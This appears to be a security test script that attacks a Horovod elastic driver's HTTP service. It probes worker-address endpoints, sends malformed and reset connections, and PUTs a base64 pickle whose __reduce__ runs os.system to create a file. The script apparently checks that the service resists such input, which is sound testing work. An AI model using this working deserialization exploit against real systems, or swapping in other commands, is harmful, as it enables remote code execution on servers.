"""What someone who is no part of a job tries against its network services.

python tests/attacker.py HOST PORT FILE    tries to have FILE made by whatever listens there; prints each answer
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import os
import pickle
import socket
import struct
import sys
import threading
from pathlib import Path


class Touch:
    """A pickle that makes a file where it is read."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch '{self.file}'",)


def evil(file: Path) -> bytes:
    """A message for Horovod's elastic driver that makes a file."""
    return base64.b64encode(pickle.dumps(({}, Touch(file))))


def ask(address: str, port: int, method: str, path: str, body: bytes | None = None) -> tuple[int, bytes]:
    """Status and body of an answer over HTTP; status 0: whatever listens there closes the connection."""
    connection = http.client.HTTPConnection(address, port, timeout=10)
    try:
        connection.request(method, path, body)
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (http.client.HTTPException, OSError):
        return 0, b""
    finally:
        connection.close()


def knock(address: str, port: int) -> None:
    """Sends lines that are no requests; closes or resets each connection, and waits until the server has noticed."""
    for line in (b"\r\n", b"GET\r\n", b"", b"GET /"):
        with socket.create_connection((address, port), 10) as client:
            client.sendall(line)
            client.shutdown(socket.SHUT_WR)
            with contextlib.suppress(ConnectionError):
                client.recv(1000)
        with socket.create_connection((address, port), 10) as client:
            client.sendall(line)
            # No lingering: closing sends a reset.
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    ask(address, port, "GET", "/")  # the server accepts connections in their order
    for each in threading.enumerate():
        if "process_request_thread" in each.name:
            each.join(10)


def attack(address: str, port: int, file: Path) -> list[tuple[int, bytes]]:
    """Asks for a rank's key and for a rank's place, and sends code as a rank's address."""
    keys = [f"{host}:{slot}" for host in ("localhost", "127.0.0.1", "host1", "host2") for slot in (0, 1)]
    found = [ask(address, port, "GET", f"/worker_addresses/{key}") for key in keys]
    found += [ask(address, port, "GET", f"/rank_and_size/{keys[0]}")]
    return [*found, ask(address, port, "PUT", f"/worker_addresses/{keys[0]}", evil(file))]


if __name__ == "__main__":
    for answer in attack(sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])):
        print(*answer)
